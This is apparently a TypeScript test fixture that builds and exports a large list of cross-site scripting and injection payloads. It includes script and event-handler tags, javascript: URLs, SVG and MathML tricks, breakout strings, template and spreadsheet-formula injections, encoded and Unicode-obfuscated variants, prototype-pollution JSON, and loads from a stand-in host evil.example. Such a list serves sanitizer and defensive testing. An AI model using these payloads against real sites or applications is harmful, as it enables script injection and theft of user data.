// Texts that would do harm wherever they were taken for more than text: written out, and made by joining what attacks are made of.

/** What every one of them would do, if it ran. */
export const CALL = "window.pwned=1";
const EVIL = "https://evil.example/";
const SCRIPT = `<script>${CALL}</script>`;
const IMAGE = `<img src=x onerror=${CALL}>`;

const HANDLERS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "ontoggle", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onwheel", "oncopy", "onpaste", "onbegin", "onpageshow"];
const TAGS = ["svg", "body", "img src=x", "video src=x", "audio src", "input autofocus", "select autofocus", "textarea autofocus", "button popovertarget=p", "details open", "marquee", "dialog open", "object data=x", "embed src=x", "iframe src=x", "frameset", "meter", "math", "style", "link rel=stylesheet href=x", "custom-element", "p contenteditable", "track src=x", "source src=x", "image src=x", "keygen autofocus", "isindex", "bgsound src=x", "area href=x", "map name=x"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", " javascript:", "\u0001javascript:", "java\tscript:", "java\nscript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:null/", "file:///", "view-source:javascript:", "feed:javascript:", "tauri://localhost/", "ipc://localhost/", "asset://localhost/"];
const CARRIERS = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
];
const ELEMENTS = [
  `<svg>${SCRIPT}</svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${CALL}">`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>">`, `<svg><foreignObject>${IMAGE}</foreignObject></svg>`, `<svg><image href="${EVIL}p.png">`,
  `<svg><style>@import '${EVIL}x.css'</style></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`, `<svg><desc>${IMAGE}</desc></svg>`, `<svg><title>${IMAGE}</title></svg>`,
  `<math><mtext></mtext><mglyph><style>${IMAGE}`, `<math href="javascript:${CALL}">x</math>`, `<math><annotation-xml encoding="text/html">${IMAGE}</annotation-xml></math>`, `<math><mi xlink:href="javascript:${CALL}">x`,
  `<template>${SCRIPT}</template>`, `<template shadowrootmode=open>${IMAGE}</template>`, `<noscript><p title="</noscript>${IMAGE}">`, `<style>@import url(${EVIL}x.css);</style>`, `<style>*{background:url(${EVIL})}</style>`,
  `<x style="background:url(${EVIL})">x</x>`, `<xss style=position:fixed;inset:0 onpointerenter=${CALL}>`, `<p style="animation:x" onanimationstart=${CALL}><style>@keyframes x{}</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<meta http-equiv=refresh content="0;javascript:${CALL}">`, `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<base href=${EVIL}>`, `<base target=_top href=javascript:/a/-${CALL}//>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;">`, `<iframe sandbox=allow-scripts src="${EVIL}">`, `<object data="${EVIL}x.swf"></object>`, `<object type=text/html data="javascript:${CALL}">`, `<embed src="${EVIL}x">`, `<portal src=${EVIL}>`, `<fencedframe src=${EVIL}>`,
  `<link rel=stylesheet href=${EVIL}x.css>`, `<link rel=prefetch href=${EVIL}>`, `<link rel=import href=${EVIL}>`, `<link rel=modulepreload href=${EVIL}x.js>`, `<link rel=dns-prefetch href=//evil.example>`, `<script src=${EVIL}x.js></script>`, `<script type=module>import "${EVIL}x.js"</script>`, `<script type=importmap>{"imports":{"x":"${EVIL}"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<form action=${EVIL}><input name=x autofocus><button>x</button></form>`, `<button formaction="javascript:${CALL}">x</button>`, `<input type=image src=${EVIL}p.png>`, `<isindex action="javascript:${CALL}">`, `<form id=x></form><button form=x formaction=${EVIL}>x</button>`, `<input name=attributes><input name=childNodes>`,
  `<img src="${EVIL}p.png">`, `<img srcset="${EVIL}p.png 1x">`, `<picture><source srcset=${EVIL}p.png><img></picture>`, `<video poster=${EVIL}p.png>`, `<body background=${EVIL}p.png>`, `<table background=${EVIL}p.png>`, `<audio src=${EVIL}a.mp3 autoplay>`, `<a ping=${EVIL} href=#>x</a>`, `<a href=${EVIL} target=_blank>x</a>`, `<dialog open>x</dialog>`, `<div popover id=p>x</div>`, `<plaintext>`, `<xmp>${IMAGE}</xmp>`, `<listing>${IMAGE}`, `<comment>${IMAGE}</comment>`,
];
const BREAKOUTS = ["\">", "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</iframe>", "</xmp>", "</option></select>", "</svg>", "</math>", "-->", "--!>", "]]>", "?>", "%>", "*/", "\\\">", "</p></div></body></html>"].map((out) => out + SCRIPT);
const ATTRIBUTES = [`" onmouseover="${CALL}`, `' autofocus onfocus='${CALL}`, "` onclick=`" + CALL, `" style="background:url(${EVIL})`, `x" data-x="`, `"/onerror="${CALL}"/src="x`, `" href="javascript:${CALL}`, `"srcdoc="${SCRIPT}`];
const TEMPLATES = [`{@html "${IMAGE}"}`, `{${CALL}}`, "${" + CALL + "}", `#{${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `{{${CALL}}}`, `{%print(${CALL})%}`, `<%= ${CALL} %>`, `[[${CALL}]]`, `{!${CALL}!}`, `@{${CALL}}`, `*{${CALL}}`, `~{${CALL}}`, "%s%n%x", `$(${CALL})`, "`" + CALL + "`", `=HYPERLINK("${EVIL}")`, `=cmd|'/c calc'!A1`];
const MARKDOWN = [`[x](javascript:${CALL})`, `[x](<javascript:${CALL}>)`, `![x](${EVIL}p.png)`, `![x"onerror="${CALL}](x)`, `<javascript:${CALL}>`, `[x]: javascript:${CALL}`, `~~~html\n${SCRIPT}\n~~~`, `:::${SCRIPT}:::`, `[[${EVIL}]]`, `<${EVIL}>`, `*${IMAGE}*`, `\\${IMAGE}`];
const ENCODED = [`&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `&amp;lt;script&amp;gt;`, `\\u003cimg src=x onerror=${CALL}\\u003e`, `\\x3cscript\\x3e${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`, `%253Cscript%253E`, `\\74script\\76${CALL}`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `<scr\u0000ipt>${CALL}</scr\u0000ipt>`, `<\u0000script>${CALL}</script>`];
const CHARACTERS = [`\u202e${SCRIPT}\u202c`, `\u2066${IMAGE}\u2069`, `＜script＞${CALL}＜/script＞`, `‹script›${CALL}‹/script›`, `<ſcript>${CALL}</ſcript>`, `<\u200bscript>${CALL}</script>`, `<img\u00a0src=x onerror=${CALL}>`, `<img\u2028src=x\u2029onerror=${CALL}>`, `<img\tsrc=x\nonerror=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<IMG SRC=x ONERROR=${CALL}>`, `<ımg src=x onerror=${CALL}>`, `<<script>${CALL}//<</script>`, `<img src=x:x onerror\u000b=${CALL}>`, `<img src=x onerror\u000c=${CALL}>`, `\ud800${SCRIPT}`, `${SCRIPT}\udfff`, `\ufeff${SCRIPT}`, `\u001b]8;;${EVIL}\u0007x\u001b]8;;\u0007`, `\u0085${IMAGE}`, `e${"\u0301".repeat(300)}`, `<a\u2044href=javascript:${CALL}>`, "\u{e0001}\u{e003c}\u{e0073}"];
const NAMES = ["__proto__", "constructor", "toString", "prototype.pwned", "hasOwnProperty", "innerHTML", "then", "nodeName", "undefined", "null", "NaN", "[object Object]", "__defineGetter__", "valueOf", "$$typeof", "toJSON"];
const IN_JSON = [`{"title":"${IMAGE}"}`, JSON.stringify({ [SCRIPT]: IMAGE, "": [IMAGE] }), `{"__proto__":{"pwned":1}}`, `{"constructor":{"prototype":{"pwned":1}}}`, `["</script>${IMAGE}"]`, `{"a":"\\u003cscript\\u003e"}`, `{"$$typeof":"Symbol(react.element)","type":"script"}`, `{"then":"${CALL}"}`, `{"href":"javascript:${CALL}","html":"${IMAGE}"}`];

const HANDLED = TAGS.map((tag, at) => `<${tag} ${HANDLERS[at % HANDLERS.length]}=${CALL}>`);
const LINKED = SCHEMES.flatMap((scheme) => [scheme + CALL, ...CARRIERS.map((carry) => carry(scheme + (scheme.endsWith("html,") ? SCRIPT : CALL)))]);
const SCRIPTED = [SCRIPT, `<script/x>${CALL}</script>`, `<script\n>${CALL}</script\n>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script x=">">${CALL}</script>`, `<script>/*`, `*/${CALL}</script>`, IMAGE];

/** All of them, each once. */
export const HOSTILE: readonly string[] = [...new Set([...SCRIPTED, ...HANDLED, ...LINKED, ...ELEMENTS, ...BREAKOUTS, ...ATTRIBUTES, ...TEMPLATES, ...MARKDOWN, ...ENCODED, ...CHARACTERS, ...NAMES, ...IN_JSON])];
